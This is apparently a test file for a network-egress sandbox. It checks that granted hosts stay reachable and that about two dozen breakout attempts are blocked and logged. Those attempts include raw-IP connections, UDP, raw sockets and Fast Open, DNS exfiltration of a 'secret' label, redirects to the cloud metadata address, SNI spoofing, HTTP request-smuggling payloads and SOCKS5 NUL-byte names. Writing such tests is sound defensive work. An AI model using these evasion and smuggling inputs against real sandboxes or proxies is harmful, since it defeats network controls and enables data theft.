import { afterAll, beforeAll, expect, test } from "vitest";
import { Arena, NOBODY } from "../support/arena.ts";
import { Internet, internetObstacle } from "../support/internet.ts";

/** A run with grants, on a host whose internet the test has made: what must not get out, and what arrived there. */
let internet: Internet;
const obstacle = internetObstacle();

beforeAll(async () => {
  if (obstacle === "") internet = await Internet.make();
});
afterAll(() => internet?.[Symbol.dispose]());
test.beforeEach((context) => {
  if (obstacle !== "") context.skip(`skipped: ${obstacle}`);
});

const env = { PATH: "/usr/bin:/bin" };
const GRANTS = [
  "example.org",
  "*.example.org",
  "metadata.test",
  "private.test",
  "loopback.test",
  "mapped.test",
  "own.test",
  "mixed.test",
];
const flags = GRANTS.flatMap((grant) => ["--net-allow", grant]);

const python = (lines: string): string[] => ["python3", "-c", `import os, socket, struct, sys\n${lines}`];
const CURL = "curl -sS -m 9";
const bash = (script: string): string[] => ["bash", "-c", script];
/** A question for `name`; nothing of the standard library asks without a resolver. */
const QUERY = `def query(name, kind):
  labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
  return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", kind, 1)
`;
const MPTCP = 262;

type Breakout = {
  readonly name: string;
  readonly command: readonly string[];
  /** What arrives when nothing is around the program; null: it can not be shown, as the kernel may lack it. */
  readonly arrives: RegExp | null;
  /** The rules of which one must be on record; null: the kernel refuses by itself, there being nobody. */
  readonly rule: string | null;
  /** Arrivals that are no success: the broker looked a granted name up. */
  readonly harmless?: RegExp;
};

const BREAKOUTS: readonly Breakout[] = [
  {
    name: "a TCP connection to the address of a granted host, past its name",
    command: bash(`${CURL} --noproxy '*' http://93.184.216.34/`),
    arrives: /^http/,
    rule: "network.default-deny",
  },
  {
    name: "the same over IPv6",
    command: bash(`${CURL} --noproxy '*' 'http://[2606:2800:220::34]/'`),
    arrives: /^http/,
    rule: "network.default-deny",
  },
  {
    name: "the same through the proxy",
    command: bash(`${CURL} http://93.184.216.34/`),
    arrives: /^http/,
    rule: "network.default-deny",
  },
  {
    name: "an IPv4 address written in IPv6, through the proxy",
    command: bash(`${CURL} 'http://[::ffff:93.184.216.34]/'`),
    arrives: /^http/,
    rule: "network.default-deny",
  },
  {
    name: "a port that no grant names",
    command: python('socket.create_connection(("93.184.216.34", 9999), 5).send(b"x")'),
    arrives: /^tcp/,
    rule: null,
  },
  {
    name: "a datagram",
    command: python(
      's=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("93.184.216.34", 9998)); s.settimeout(1); s.connect(("93.184.216.34", 9998)); s.send(b"y"); s.recv(1)',
    ),
    arrives: /^udp/,
    rule: null,
  },
  {
    name: "a datagram over IPv6",
    command: python(
      's=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b"x", ("2606:2800:220::34", 9998))',
    ),
    arrives: /^udp/,
    rule: null,
  },
  {
    name: "a DNS question to a foreign server",
    command: python(
      `${QUERY}s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(query("secret.elsewhere.test", 1), ("93.184.216.34", 53)); print(s.recv(512))`,
    ),
    arrives: /^dns secret/,
    rule: "network.default-deny",
  },
  {
    name: "a DNS question to the host's own server",
    command: bash("getent ahosts secret.elsewhere.test; exit 1"),
    arrives: /^dns secret/,
    rule: "network.default-deny",
  },
  {
    name: "the first connection that Fast Open makes while sending",
    command: python(
      's=socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.sendto(b"GET / HTTP/1.0\\r\\n\\r\\n", socket.MSG_FASTOPEN, ("93.184.216.34", 80)); print(s.recv(100))',
    ),
    arrives: /^http/,
    rule: "network.fast-open",
  },
  {
    name: "Fast Open by an option",
    command: python(
      's=socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setsockopt(socket.IPPROTO_TCP, 30, 1); s.connect(("93.184.216.34", 80)); s.send(b"GET / HTTP/1.0\\r\\n\\r\\n"); print(s.recv(100)); ',
    ),
    arrives: /^http/,
    rule: "network.default-deny",
  },
  {
    name: "Multipath TCP",
    command: python(
      `s=socket.socket(socket.AF_INET, socket.SOCK_STREAM, ${MPTCP}); s.connect(("93.184.216.34", 80)); s.send(b"GET / HTTP/1.0\\r\\n\\r\\n"); print(s.recv(100))`,
    ),
    arrives: null,
    rule: "network.socket",
  },
  {
    name: "a raw socket",
    command: python(
      's=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(b"x", ("93.184.216.34", 0))',
    ),
    arrives: null,
    rule: "network.socket",
  },
  {
    name: "a redirect to the metadata service",
    command: bash(`${CURL} -fL http://example.org/redirect/http%3A%2F%2F169.254.169.254%2Flatest`),
    arrives: /^http ::ffff:169/,
    rule: "network.private-address",
    harmless: /^(?:dns example.org|http \S+ 80 example.org \/redirect)/,
  },
  {
    name: "a redirect to a host that is not granted",
    command: bash(`${CURL} -fL http://example.org/redirect/http%3A%2F%2Felsewhere.test%2F`),
    arrives: /elsewhere.test \//,
    rule: "network.default-deny",
    harmless: /^(?:dns example.org|http \S+ 80 example.org \/redirect)/,
  },
  ...["metadata.test", "private.test", "mapped.test", "own.test", "loopback.test"].map((host) => ({
    name: `a granted name that leads to a special address, through the proxy: ${host}`,
    command: bash(`${CURL} -f http://${host}/`),
    arrives: host === "metadata.test" || host === "private.test" ? /^http/ : null,
    rule: "network.private-address",
    harmless: /^dns /,
  })),
  {
    name: "a granted name that leads to the metadata service, by itself",
    command: bash(`${CURL} --noproxy '*' -f http://metadata.test/`),
    arrives: /^http/,
    rule: "network.private-address",
    harmless: /^dns /,
  },
  {
    name: "TLS that asks a granted address for another host",
    command: bash(
      "openssl s_client -connect example.org:443 -servername elsewhere.test -quiet -no_ign_eof < request",
    ),
    arrives: /^http .* 443/,
    rule: "network.sni",
    harmless: /^dns example.org/,
  },
  {
    name: "TLS that names no host",
    command: bash("openssl s_client -connect example.org:443 -noservername -quiet -no_ign_eof < request"),
    arrives: /^http .* 443/,
    rule: "network.sni",
    harmless: /^dns example.org/,
  },
  {
    name: "TLS that asks for another host, through the proxy",
    command: bash(
      `${CURL} -k --noproxy '' --connect-to elsewhere.test:443:example.org:443 https://elsewhere.test/`,
    ),
    arrives: /^http .* 443/,
    rule: "network.sni",
    harmless: /^dns example.org/,
  },
  {
    name: "an own address of the host",
    command: bash(`${CURL} -f --noproxy '*' http://203.0.114.2/`),
    arrives: null,
    rule: "network.private-address",
  },
];

for (const { name, command, arrives, rule, harmless } of BREAKOUTS) {
  test(`${name}: does not get out`, async () => {
    using arena = new Arena(name.startsWith("a ") ? NOBODY : process.geteuid!());
    arena.put("workspace/request", "GET / HTTP/1.0\r\nHost: elsewhere.test\r\n\r\n");
    if (arrives !== null) {
      const control = await internet.plain(arena, command, { env });
      expect(control.arrivals.join("\n"), control.stderr).toMatch(new RegExp(arrives, "m"));
    }
    const run = await internet.run(arena, command, { env, flags });
    expect(
      run.arrivals.filter((line) => harmless?.test(line) !== true),
      run.stderr,
    ).toEqual([]);
    expect(run.stdout).not.toContain("hello");
    const rules = run.records.filter(({ kind }) => kind === "deny").map((record) => record.rule);
    if (rule !== null) expect(rules, run.stderr).toContain(rule);
    expect(run.exitCode, run.stdout).not.toBe(125);
  });
}

test("what is granted is reached, by proxy and without one, by name in DNS and in /etc/hosts, over IPv4, IPv6 and TLS", async () => {
  using arena = new Arena(NOBODY);
  const script = [
    `${CURL} http://example.org/`,
    `${CURL} --noproxy '*' http://www.example.org/`,
    `${CURL} --noproxy '*' -6 http://only6.example.org/`,
    `${CURL} --noproxy '*' http://listed.example.org/`,
    `${CURL} --cacert cert.pem https://example.org/`,
    `${CURL} --cacert cert.pem --noproxy '*' https://www.example.org/`,
    `${CURL} http://mixed.test/`,
    `${CURL} -x socks5h://$SALLYPORT_SOCKS5 http://example.org/`,
    `${CURL} http://example.org/big | wc -c`,
  ].join("\n");
  const run = await internet.run(arena, bash(script), { env, flags });
  const hosts = [
    "example.org",
    "www.example.org",
    "only6.example.org",
    "listed.example.org",
    "example.org",
    "www.example.org",
    "mixed.test",
    "example.org",
  ];
  expect(run.stdout, run.stderr).toBe(`${hosts.map((host) => `hello from ${host}\n`).join("")}8388608\n`);
  const addresses = run.records
    .filter(({ extra }) => extra?.["address"] !== undefined)
    .map(({ extra }) => extra!["address"]);
  expect(addresses).toContain("2606:2800:220::34");
  expect(addresses.filter((address) => String(address).startsWith("10."))).toEqual([]);
});

test("a granted wildcard is no way to ask a name server: a name is looked up when it is connected to, and on record", async () => {
  using arena = new Arena();
  const run = await internet.run(
    arena,
    python(`${QUERY}
for kind in (1, 28, 16, 15, 255, 65):
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
  s.sendto(query("c2VjcmV0.example.org", kind), ("10.9.0.1", 53))
  print(kind, struct.unpack(">6H", s.recv(512)[:12])[3])
`),
    { env, flags },
  );
  expect(run.stdout, run.stderr).toBe("1 1\n28 1\n16 0\n15 0\n255 0\n65 0\n");
  expect(run.arrivals).toEqual([]);
});

test("a request that two servers may read differently is not passed on", async () => {
  using arena = new Arena();
  const requests = [
    "GET http://example.org/ HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n",
    "GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\nHost: elsewhere.test\r\n\r\n",
    "GET http://example.org/ HTTP/1.1\r\n\r\n",
    "GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n X: folded\r\n\r\n",
    "GET http://example.org/ HTTP/1.1\nHost: example.org\n\n\r\n\r\n",
    "GET http://example.org/ HTTP/1.1\r\nHost : example.org\r\n\r\n",
    "GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\nX: a\0b\r\n\r\n",
    "POST http://example.org/ HTTP/1.1\r\nHost: example.org\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST http://example.org/ HTTP/1.1\r\nHost: example.org\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
    "POST http://example.org/ HTTP/1.1\r\nHost: example.org\r\nContent-Length: +3\r\n\r\nabc",
    "POST http://example.org/ HTTP/1.1\r\nHost: example.org\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n",
    "GET http://user@example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "GET http://example.org@elsewhere.test/ HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n",
    "GET http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "CONNECT example.org HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "CONNECT example.org:443 HTTP/1.1\r\nHost: elsewhere.test:443\r\n\r\n",
  ];
  arena.put("workspace/requests.json", JSON.stringify(requests));
  const run = await internet.run(
    arena,
    python(`import json
for request in json.load(open("requests.json")):
  s = socket.create_connection(("198.18.0.1", 3128), 5)
  s.sendall(request.encode("latin1"))
  print(s.recv(1000).split(b"\\r\\n")[0].decode())
# The second request of a connection goes nowhere, however it comes.
s = socket.create_connection(("198.18.0.1", 3128), 5)
s.sendall(b"POST http://example.org/one HTTP/1.1\\r\\nHost: example.org\\r\\nContent-Length: 1\\r\\n\\r\\nx" +
  b"GET http://example.org/two HTTP/1.1\\r\\nHost: elsewhere.test\\r\\n\\r\\n")
data = b""
while True:
  more = s.recv(1000)
  if not more: break
  data += more
print(data.count(b"HTTP/1.1"))
`),
    { env, flags },
  );
  expect(run.stdout, run.stderr).toBe(`${"HTTP/1.1 400 Bad Request\n".repeat(requests.length)}1\n`);
  const arrived = run.arrivals.filter((line) => line.startsWith("http"));
  expect(arrived.map((line) => line.split(" ").slice(2).join(" "))).toEqual(["80 example.org /one"]);
});

test("SOCKS5: a name with a NUL or a number for a name is not allowed, nor another command", async () => {
  using arena = new Arena();
  const run = await internet.run(
    arena,
    python(`
def ask(command, name):
  s = socket.create_connection(("198.18.0.1", 1080), 5)
  s.sendall(b"\\5\\1\\0"); s.recv(2)
  s.sendall(b"\\5" + bytes([command]) + b"\\0\\3" + bytes([len(name)]) + name + b"\\0\\x50")
  print(s.recv(10)[1])
ask(1, b"example.org"); ask(1, b"elsewhere.test\\0.example.org"); ask(1, b"elsewhere.test"); ask(1, b"0xa9fea9fe")
ask(2, b"example.org"); ask(3, b"example.org")
`),
    { env, flags },
  );
  expect(run.stdout, run.stderr).toBe("0\n2\n2\n2\n7\n7\n");
});

test("a socket of the host that the run would start with refuses the run", async () => {
  using arena = new Arena();
  const starter = `import socket, subprocess, sys, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sys.exit(subprocess.call(sys.argv[1:], stdin=s.fileno()))`;
  const victim = python('s=socket.socket(fileno=0); s.connect(("93.184.216.34", 9999)); s.send(b"x")');
  const control = await internet.plain(arena, ["python3", "-c", starter, ...victim], { env });
  expect(control.arrivals.join()).toMatch(/^tcp/);
  const run = await internet.run(arena, victim, { env, flags, within: ["python3", "-c", starter] });
  expect(run.arrivals).toEqual([]);
  expect(run.exitCode).toBe(125);
  expect(run.stderr).toContain("network");
});
